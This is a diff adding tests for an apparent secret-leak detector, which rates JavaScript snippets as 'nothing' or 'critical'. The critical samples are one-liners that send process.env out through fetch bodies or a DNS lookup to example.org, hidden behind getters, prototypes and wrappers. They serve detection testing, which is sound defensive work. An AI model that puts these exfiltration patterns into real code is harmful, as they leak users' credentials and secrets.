@@ -250,3 +250,36 @@ test('what is opened in an editor, credentials of a host, keys to chats, mail an
   for (const code of [mail, accounts]) assert.equal(at('postinstall', code), 'high', code);
   assert.deepEqual([at('start', mail), at('start', accounts)], ['nothing', 'low']);
 });
+
+test('of an object, only the member that is asked for is sent', () => {
+  for (const code of [
+    'function connect(options) { const { port, env = process.env } = options; return send({ port, prefix: prefixOf(env) }) } function prefixOf(env) { return env.PREFIX ?? "" } function send(options) { return fetch(`http://localhost:${options.port}${options.prefix}`) } connect({ port: 1, env: process.env })',
+    'const addressOf = (env) => `https://example.org/${env?.ZONE ?? "eu"}`; const ask = (env) => { const base = addressOf(env); return fetch(base) }; ask(getAll()); function getAll() { return process.env }',
+    'const start = ({ url, env }) => fetch(url, { env: null }); start({ url: u, env: process.env })',
+    'const settings = Object.assign({ url: u }, defaults, { env: process.env }); fetch(settings.url)',
+    'const config = { ...process.env }; fetch(config.API_URL)',
+    'class A { constructor(options) { this.options = options } go() { fetch(this.options.url) } } const o = { url: u, env: process.env }; use(o); const hand = (p) => fetch(p.url); hand(o)',
+  ]) assert.equal(worst(code), 'nothing', code);
+  for (const code of [
+    'const start = (o) => { const { url, data } = o; fetch(url, { body: JSON.stringify(data) }) }; start({ url: u, data: process.env })',
+    'const start = (o) => { const { inner: { data } } = o; fetch(u, { body: data }) }; start({ inner: { data: JSON.stringify(process.env) } })',
+    'const pick = (o) => o.a; const hand = (o) => pick({ a: o.b }); const more = (o) => hand({ b: o.c }); const most = (o) => more({ c: o.d }); fetch(u, { body: most({ d: process.env }) })',
+    'const take = (o, k) => o[k]; fetch(u, { body: take({ a: process.env }, name) })',
+    'const wrap = (o) => new Promise((done) => done(o.a)); fetch(u, { body: await wrap({ a: process.env }) })',
+    'const same = (o) => o.valueOf(); fetch(u, { body: same(process.env) })',
+    'const all = function () { return arguments[0] }; fetch(u, { body: all(process.env) })',
+    'const fill = (o) => { const made = {}; put(made, o); return made }; fetch(u, { body: fill({ a: process.env }) })',
+    'const o = { get data() { return process.env } }; fetch(u, { body: JSON.stringify(o.data) })',
+    'const o = { __proto__: { data: process.env } }; fetch(u, { body: JSON.stringify(o.data) })',
+    'const o = {}; o.inner.data = process.env; const p = o; fetch(u, { body: JSON.stringify(p.inner.data) })',
+    'const o = {}; o[name] = process.env; const p = o; fetch(u, { body: p.data })',
+    'const o = Object.freeze({ ...base, data: process.env }); const send = (q) => fetch(u, { body: q.data }); send(o)',
+    'class A { constructor() { this.o = {}; this.o.data = process.env } go() { fetch(u, { body: this.o.data }) } }',
+    'let o = { data: process.env }; while (more) o = o.next ?? o; fetch(u, { body: o.data })',
+  ]) assert.equal(worst(code), 'critical', code);
+});
+
+test('modules have members of their own', () => {
+  assert.equal(worst('let m = require("http"); f(m); m = require("path"); m.resolve(process.env)'), 'nothing');
+  assert.equal(worst('require("dns").resolve(JSON.stringify(process.env) + ".example.org", f)'), 'critical');
+});
